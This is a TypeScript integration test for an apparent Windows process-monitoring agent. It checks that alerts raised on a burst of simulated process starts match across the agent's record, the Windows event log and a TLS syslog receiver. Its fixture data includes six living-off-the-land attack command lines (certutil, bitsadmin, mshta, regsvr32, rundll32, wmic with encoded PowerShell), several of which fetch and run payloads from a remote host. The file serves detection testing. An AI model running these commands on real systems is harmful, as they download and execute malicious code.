import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import { isDeepStrictEqual } from 'node:util';
import { AgentFolder } from './agent-process.ts';
import { DoubleScript } from './double-script.ts';
import { controlService, untilService } from './service-control.ts';
import { until } from './until.ts';

/*
 * The agent as the service that the service controller starts: a burst through the capture, and its alerts at every
 * receiver that a Windows machine would have. The harness runs a real rsyslog, see harness/syslog-receiver.ts.
 */
const {
  TEST_NO_SYSLOG: missing,
  TEST_SYSLOG_PORT: port,
  TEST_SYSLOG_MESSAGES: messages,
  TEST_SYSLOG_CA: caFile,
  TEST_SYSLOG_CERT: certFile,
  TEST_SYSLOG_KEY: keyFile,
} = process.env;

const system32 = '\\Device\\HarddiskVolume3\\Windows\\System32';
const noise = 400;
const attacks = [
  ['certutil.exe', 'certutil -urlcache -split -f http://203.0.113.7/a.exe c:\\users\\public\\a.exe'],
  ['bitsadmin.exe', 'bitsadmin /transfer job http://203.0.113.7/b.exe c:\\users\\public\\b.exe'],
  ['mshta.exe', 'mshta http://203.0.113.7/ünïcode.hta'],
  ['regsvr32.exe', 'regsvr32 /s /n /u /i:http://203.0.113.7/c.sct scrobj.dll'],
  ['rundll32.exe', 'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";document.write()'],
  ['wmic.exe', 'wmic process call create "powershell -enc SQBFAFgA"'],
] as const;

function sayBurst(etw: DoubleScript): void {
  etw.say('running', 600, 4, 0, '\\Device\\HarddiskVolume3\\Windows\\explorer.exe', 'explorer.exe');
  etw.say('burst', noise, 2_000, 20_000, 600);
  for (const [index, [name, line]] of attacks.entries()) {
    etw.say('start', 40_000 + index * 4, 600, 0, `${system32}\\${name}`, line);
  }
}

interface Status {
  readonly counters: { readonly scored: number };
  readonly outbox: { readonly entries: number };
}

/** `event.id` of alerts and incidents among documents, in order. */
function idsOf(documents: readonly unknown[]): string[] {
  return (documents as { event: { id: string; kind: string; dataset: string } }[])
    .filter(({ event }) => event.kind === 'alert')
    .map(({ event }) => event.id)
    .toSorted();
}

/** What rsyslog wrote down so far: structured data, then the document. */
function readSyslog(): unknown[] {
  if (!existsSync(messages!)) return [];
  return readFileSync(messages!, 'utf8')
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line.slice(line.indexOf('{'))) as unknown);
}

test('a burst: the same alerts in the event log, the record and at rsyslog over TLS', {
  skip: missing ?? false,
}, async () => {
  const etw = new DoubleScript('etw');
  const tls = { caFile, certFile, keyFile };
  const folder = new AgentFolder(etw.path, {
    forward: {
      destinations: {
        windows: { type: 'eventlog' },
        siem: { type: 'syslog', host: '127.0.0.1', port: Number(port), protocol: 'tls', tls },
      },
    },
  });
  // One may be left over from a run that was killed.
  controlService.remove('ProblemChild');
  const created = controlService.create(
    'ProblemChild',
    folder.command('run', '--service', '--config', folder.config),
  );
  try {
    await untilService('ProblemChild', 'RUNNING', `${created}${controlService.start('ProblemChild')}`);
    sayBurst(etw);
    const recorded = () => idsOf(folder.record());
    const logged = () =>
      idsOf(
        folder
          .eventLog()
          .flatMap(([source, , , text]) => (source === 'ProblemChild' ? [JSON.parse(text!)] : [])),
      );
    const received = () => [...new Set(idsOf(readSyslog()))];
    // No more alerts on starts come once all are scored and committed, and none is waiting once all are delivered.
    await until('all is scored and delivered', async () => {
      const { stdout } = await folder.ask('status', '--json');
      if (stdout === '') return false;
      const { counters, outbox } = JSON.parse(stdout) as Status;
      return counters.scored >= noise + attacks.length && outbox.entries === 0;
    });
    // An incident may still come, and what was delivered be written down a moment later.
    let [alerts, inLog, atRsyslog]: string[][] = [];
    await until('the same everywhere', () => {
      [alerts, inLog, atRsyslog] = [recorded(), logged(), received()];
      return isDeepStrictEqual(inLog, alerts) && isDeepStrictEqual(atRsyslog, alerts);
    }).catch(() => undefined);
    assert.deepEqual([inLog, atRsyslog], [alerts, alerts]);
    assert.ok(alerts!.length >= attacks.length / 2, `${alerts!.length} alerts`);
    assert.equal(new Set(alerts).size, alerts!.length, 'no alert twice');
    const [, type, id] = folder.eventLog().find(([, , , text]) => text?.includes('"kind":"alert"')) ?? [];
    // An error or a warning, under the event id of alerts in native/resource/messages.mc.
    assert.ok(['1', '2'].includes(type ?? ''), type);
    assert.equal(id, '100');
    controlService.stop('ProblemChild');
    await untilService('ProblemChild', 'STOPPED', '');
  } finally {
    controlService.remove('ProblemChild');
  }
});
